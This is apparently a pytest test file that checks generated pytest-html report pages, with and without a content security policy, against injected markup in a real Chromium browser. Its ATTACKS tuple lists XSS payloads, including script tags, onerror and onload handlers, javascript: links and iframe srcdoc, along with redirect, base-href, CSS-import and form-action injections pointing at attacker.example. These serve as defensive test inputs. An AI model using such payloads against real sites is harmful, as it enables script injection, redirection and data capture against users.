"""pytest-html's own page in a real Chromium: what a step is called runs no script in it."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from pytest_deploy.reports.others_page import with_policy
from tests.child_process import environ_without_pytest
from tests.chromium import Tab, browse

_SCRIPT = "document.title='PWNED'"
ATTACKS = (
    f"<script>{_SCRIPT}</script>",
    f"<img src=x onerror={_SCRIPT}>",
    f"</textarea><script>{_SCRIPT}</script>",
    f"</pre></td></tr></table><img src=x onerror={_SCRIPT}>",
    f"</template></title></style></script><svg onload={_SCRIPT}>",
    f'"><img src=x onerror="{_SCRIPT}">',
    f"'\"}}]}}' data-x=\"><img src=x onerror={_SCRIPT}>",
    f"&quot;&gt;&lt;img src=x onerror={_SCRIPT}&gt;",
    f"\\u003cimg src=x onerror={_SCRIPT}\\u003e",
    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    f"<details open ontoggle={_SCRIPT}>",
    f"<a href=javascript:{_SCRIPT} id=trap>x</a>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<base href=https://attacker.example/><link rel=stylesheet href=x.css>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "<form action=https://attacker.example/><input name=v autofocus></form>",
    f"<!--><script>{_SCRIPT}</script>-->",
    f"<math><mi><style><img src=x onerror={_SCRIPT}></style>",
    f"\x1b[31m<img src=x onerror={_SCRIPT}>",
)
"""What a parameter, and so a step's id, may be; and what a step may print, log and fail with."""
STEPS = """
import logging, sys
import pytest

@pytest.mark.parametrize("v", {values!r})
def test_one(v):
    print(v)
    print(v, file=sys.stderr)
    logging.warning(v)
    assert v == "plain", v
"""
WRITERS = """
from pytest_deploy.plugin.report_writers import Labels

def pytest_configure(config):
    config.pluginmanager.register(Labels({"run": "local-1"}))
"""
TRIED = "document.querySelectorAll('.collapsible').forEach((cell) => cell.click()); document.getElementById('trap')?.click(); 0"
"""Each row's log is opened, and what may be clicked is."""
SEEN = "[document.title, document.querySelectorAll('td.col-testId').length, document.querySelectorAll('td.col-testId *').length]"


TRIED_ON = {"escaped": ("plain", *ATTACKS), "as pytest-html writes it": ("plain", *ATTACKS[:2])}
"""How the page is made -> the steps' parameters. Without our escaping others tear the page up or lead away from it, which no policy in a page forbids."""


@pytest.fixture(params=TRIED_ON)
def rows(request: pytest.FixtureRequest) -> int:
    """How many steps the page lists."""
    return len(TRIED_ON[request.param])


@pytest.fixture
def page(request: pytest.FixtureRequest, rows: int, tmp_path: Path) -> bytes:
    made = request.node.callspec.params["rows"]
    (tmp_path / "test_one.py").write_text(STEPS.format(values=list(TRIED_ON[made])))
    if made == "escaped":
        (tmp_path / "conftest.py").write_text(WRITERS)
    words = [
        sys.executable,
        "-m",
        "pytest",
        "-q",
        "--html=page.html",
        "--self-contained-html",
        "-p",
        "no:cacheprovider",
    ]
    subprocess.run(words, cwd=tmp_path, env=environ_without_pytest(), capture_output=True, check=False, timeout=60)
    return (tmp_path / "page.html").read_bytes()


def test_no_script_but_its_own_runs_and_it_still_lists_its_steps(page: bytes, rows: int, tmp_path: Path) -> None:
    sealed = tmp_path / "sealed.html"
    sealed.write_bytes(with_policy(page))

    async def look(tab: Tab) -> Any:
        await tab.open(sealed)
        await tab.ask(TRIED)
        seen = await tab.ask(SEEN)
        return seen, await tab.ask("location.href"), tab.requests

    (title, listed, _), place, requests = browse(look)

    assert "PWNED" not in title
    assert listed == rows
    assert place.partition("?")[0] == sealed.as_uri()
    assert [asked for asked in requests if not asked.startswith(("file:", "data:"))] == []


def test_a_step_s_id_is_escaped_before_it_is_written(
    tmp_path: Path, page: bytes, request: pytest.FixtureRequest
) -> None:
    bare = tmp_path / "bare.html"
    bare.write_bytes(page)

    async def look(tab: Tab) -> Any:
        await tab.open(bare)
        return await tab.ask(SEEN)

    title, _, elements = browse(look)

    escaped = request.node.callspec.params["rows"] == "escaped"
    assert (elements == 0) == escaped, "without it there is one: else nothing is shown"
    assert ("PWNED" in title) != escaped


def test_a_script_that_is_not_the_writers_own_is_not_let_run(page: bytes, rows: int, tmp_path: Path) -> None:
    """The page is the judged run's: what lies in it does not say what may run in it."""
    sealed = tmp_path / "sealed.html"
    sealed.write_bytes(with_policy(page.replace(b"<body", b"<script>document.title='PWNED'</script><body", 1)))

    async def look(tab: Tab) -> Any:
        await tab.open(sealed)
        return await tab.ask(SEEN)

    title, listed, _ = browse(look)

    assert "PWNED" not in title
    assert listed == rows


def test_a_page_without_a_head_is_no_page() -> None:
    with pytest.raises(ValueError, match="has no <head>"):
        with_policy(b"<p>text</p>")
